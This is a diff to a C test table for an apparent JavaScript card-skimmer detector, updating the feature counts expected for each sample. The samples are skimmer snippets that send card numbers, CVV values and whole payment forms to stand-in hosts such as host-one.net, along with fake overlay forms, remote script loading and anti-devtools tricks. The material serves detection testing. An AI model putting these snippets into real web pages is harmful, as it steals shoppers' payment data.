@@ -7,7 +7,8 @@ static const struct look_case cases[] = {
      "\tvar i = new Image(); i.src = 'https://cdn.host-one.net/p.gif?d=' + btoa(this.value);\n"
      "});",
      "{\"beacon_out\":1,\"card_encoded\":1,\"card_listen\":1,\"card_to_net\":1,\"card_to_"
-     "sink\":1,\"card_word\":1,\"encode\":1,\"form_listen\":1,\"form_read\":1,\"hosts\":1}",
+     "sink\":1,\"card_word\":1,\"encode\":1,\"form_listen\":1,\"form_read\":1,\"form_to_host\":"
+     "1,\"hosts\":1}",
      "js"},
     {"fetch of all fields on checkout", "a.js",
      "(function(){ if (location.href.indexOf('checkout') < 0) return;\n"
@@ -22,8 +23,8 @@ static const struct look_case cases[] = {
     {"beacon of a form", "a.js",
      "const f = document.forms[0]\n"
      "f.onsubmit = () => { navigator.sendBeacon('//host-one.net/b', new FormData(f)) }",
-     "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"hosts\":1,"
-     "\"request_body\":1}",
+     "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"form_to_"
+     "host\":1,\"hosts\":1,\"request_body\":1}",
      "js"},
     {"keystrokes over a socket", "a.js",
      "let k = ''\n"
@@ -39,14 +40,14 @@ static const struct look_case cases[] = {
     {"jQuery", "a.js",
      "$('#payment-form').on('submit', function () { $.post('https://host-one.net/', "
      "$(this).serialize()); });",
-     "{\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"hosts\":1,\"net_out\":1,"
-     "\"request_body\":1}",
+     "{\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"form_to_host\":1,\"hosts\":1,"
+     "\"net_out\":1,\"request_body\":1}",
      "js"},
     {"a function that stands below", "a.js",
      "out($('#cc-number').val());\n"
      "function out(d) { new Image().src = \"//host-one.net/?\" + d; }",
      "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,"
-     "\"hosts\":1}",
+     "\"form_to_host\":1,\"hosts\":1}",
      "js"},
     {"through storage", "a.js",
      "localStorage.setItem('k', document.getElementById('cvv').value); document.cookie = 'c=' "
@@ -57,8 +58,8 @@ static const struct look_case cases[] = {
     {"template text", "a.js",
      "fetch(`https://host-one.net/"
      "?n=${document.querySelector(\"#card-number\").value}&t=${Date.now()}`);",
-     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,\"hosts\":1,\"net_"
-     "out\":1}",
+     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,\"form_to_host\":1,"
+     "\"hosts\":1,\"net_out\":1}",
      "js"},
     {"eval and its kin", "a.js",
      "eval(x); new Function(\"return 1\")(); setTimeout(\"a()\", 1); eval(atob(y)); "
@@ -77,7 +78,9 @@ static const struct look_case cases[] = {
      "\"https://host-one.net/f\"; document.body.innerHTML = \"<div "
      "style=\\\"position:fixed;z-index:9999\\\"><form "
      "action=\\\"https://host-one.net/\\\"><input name=card_no></form></div>\";",
-     "{\"card_word\":1,\"frame_insert\":1,\"hosts\":1,\"markup_write\":1,\"overlay\":2}", "js"},
+     "{\"card_input\":1,\"card_word\":2,\"form_external\":1,\"frame_external\":1,\"frame_"
+     "insert\":1,\"hosts\":1,\"markup_write\":1,\"overlay\":2}",
+     "js"},
     {"a script from elsewhere", "a.js",
      "var "
      "s=document.createElement(\"script\");s.src=\"//host-one.net/"
@@ -86,7 +89,7 @@ static const struct look_case cases[] = {
     {"a form sent elsewhere", "a.js",
      "document.getElementById(\"pay\").action = \"https://host-one.net/pay\"; location.href = "
      "\"https://host-two.net/\";",
-     "{\"form_action\":1,\"hosts\":2,\"page_move\":1}", "js"},
+     "{\"form_action\":1,\"form_external\":1,\"hosts\":2,\"page_move\":1}", "js"},
     {"hides from tools", "a.js",
      "setInterval(function(){debugger},50); if (window.outerWidth - window.innerWidth > 160) "
      "document.body.innerHTML = \"devtools\"; if (navigator.webdriver || "
